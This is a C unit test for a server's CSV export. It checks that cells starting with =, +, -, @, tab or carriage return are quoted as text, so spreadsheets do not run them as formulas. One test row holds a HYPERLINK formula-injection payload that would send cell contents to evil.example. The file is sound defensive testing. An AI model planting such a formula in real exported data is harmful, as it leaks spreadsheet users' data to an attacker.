/* test_table.c - server/http/table.c: CSV cells a spreadsheet would run as formulas are written as
 * text, numbers stay numbers. Results are made in memory with libpq's PQsetvalue. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "http/table.h"

enum { OID_INT4 = 23, OID_TEXT = 25, OID_NUMERIC = 1700 };

/* A result with columns (name text, n int4, share numeric) and the given rows. */
static PGresult *result_of(const char *const rows[][3], int n)
{
	PGresult *res = PQmakeEmptyPGresult(NULL, PGRES_TUPLES_OK);
	PGresAttDesc cols[3] = {
		{.name = "name", .typid = OID_TEXT, .typlen = -1, .atttypmod = -1},
		{.name = "n", .typid = OID_INT4, .typlen = 4, .atttypmod = -1},
		{.name = "share", .typid = OID_NUMERIC, .typlen = -1, .atttypmod = -1},
	};
	assert_int_equal(PQsetResultAttrs(res, 3, cols), 1);
	for (int r = 0; r < n; r++)
		for (int c = 0; c < 3; c++)
			assert_int_equal(PQsetvalue(res, r, c, (char *)rows[r][c], (int)strlen(rows[r][c])), 1);
	return res;
}

static void test_formula_cells_are_text(void **state)
{
	(void)state;
	static const char *const rows[][3] = {
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")", "1", "0.5"},
		{"+1+2", "2", "0.25"},
		{"-2+3", "-3", "-0.25"},
		{"@SUM(A1:A9)", "4", "1"},
		{"\tTab", "5", "1"},
		{"\rCR", "6", "1"},
		{"Sở Khoa học - Công nghệ", "7", "1"},
	};
	PGresult *res = result_of(rows, 7);
	struct sbuf out = {0};
	table_to_csv(res, &out);
	assert_string_equal(out.data,
			    "\xEF\xBB\xBF"
			    "name,n,share\r\n"
			    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xem\"\")\",1,0.5\r\n"
			    "\"'+1+2\",2,0.25\r\n"
			    "\"'-2+3\",-3,-0.25\r\n"
			    "\"'@SUM(A1:A9)\",4,1\r\n"
			    "\"'\tTab\",5,1\r\n"
			    "\"'\rCR\",6,1\r\n"
			    "Sở Khoa học - Công nghệ,7,1\r\n");
	sbuf_free(&out);
	PQclear(res);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_formula_cells_are_text),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
